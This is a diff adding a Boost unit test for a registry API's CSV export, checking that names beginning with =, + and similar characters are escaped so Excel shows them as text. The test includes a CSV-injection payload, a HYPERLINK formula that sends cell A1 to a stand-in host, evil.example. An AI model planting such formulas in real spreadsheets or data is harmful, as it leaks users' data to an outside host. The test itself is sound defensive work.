@@ -3,11 +3,16 @@
 
 #include "ApiSupport.h"
 
+#include "codec/Csv.h"
+
 #include <Poco/TextConverter.h>
 #include <Poco/UTF8Encoding.h>
 #include <Poco/Windows936Encoding.h>
 
 #include <boost/test/unit_test.hpp>
+
+#include <algorithm>
+#include <map>
 
 using namespace registry::apitest;
 
@@ -125,6 +130,33 @@ BOOST_AUTO_TEST_CASE(csv_export_opens_in_excel_and_keeps_the_district_scope) {
     BOOST_TEST(r.body.find(std::string(",") + kOther + ",") == std::string::npos); // no Chaoyang rows
     auto other = as("insp").get(std::string("/api/v1/export/facilities?district=") + kOther);
     BOOST_TEST(other.status == 403, other.describe());
+}
+
+BOOST_AUTO_TEST_CASE(csv_export_shows_a_formula_in_a_name_as_text_for_excel) {
+    // OWASP's CSV injection: Excel runs a cell starting with = + - @ as a formula.
+    const std::string name = "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"详情\")";
+    const auto created = createFacility("insp", kOwn, name);
+    const auto plusName = createFacility("insp", kOwn, "+1-2 殡仪馆");
+    auto r = as("insp").get("/api/v1/export/facilities?format=csv");
+    BOOST_TEST(r.status == 200, r.describe());
+    // The cell is written quoted, with a leading ' that Excel shows as text instead of running it.
+    BOOST_TEST(r.body.find(",\"'=HYPERLINK(\"\"http://evil.example/?d=\"\"&A1,\"\"详情\"\")\",") != std::string::npos,
+               r.body.substr(0, 400));
+    BOOST_TEST(r.body.find(",=HYPERLINK") == std::string::npos);
+    const auto rows = registry::codec::parseCsv(r.body.substr(3)); // after the BOM
+    BOOST_TEST_REQUIRE(rows.size() >= 3u);
+    const auto& header = rows[0].cells;
+    const auto column = [&](const std::string& key) {
+        return static_cast<std::size_t>(std::find(header.begin(), header.end(), key) - header.begin());
+    };
+    std::map<long long, std::vector<std::string>> byId;
+    for (std::size_t i = 1; i < rows.size(); ++i) byId[std::stoll(rows[i].cells.at(column("id")))] = rows[i].cells;
+    BOOST_TEST(byId.at(created.id()).at(column("name")) == "'" + name);
+    BOOST_TEST(byId.at(plusName.id()).at(column("name")) == "'+1-2 殡仪馆");
+    // Numbers stay numbers, and a name without a formula is as typed.
+    BOOST_TEST(byId.at(created.id()).at(column("capacity_total")) == "1000");
+    // The API's JSON is the record as stored: neutralising is for the spreadsheet only.
+    BOOST_TEST(as("insp").get(pathOf("facilities", created.id())).str("name") == name);
 }
 
 BOOST_AUTO_TEST_CASE(geojson_and_json_exports_are_well_formed) {
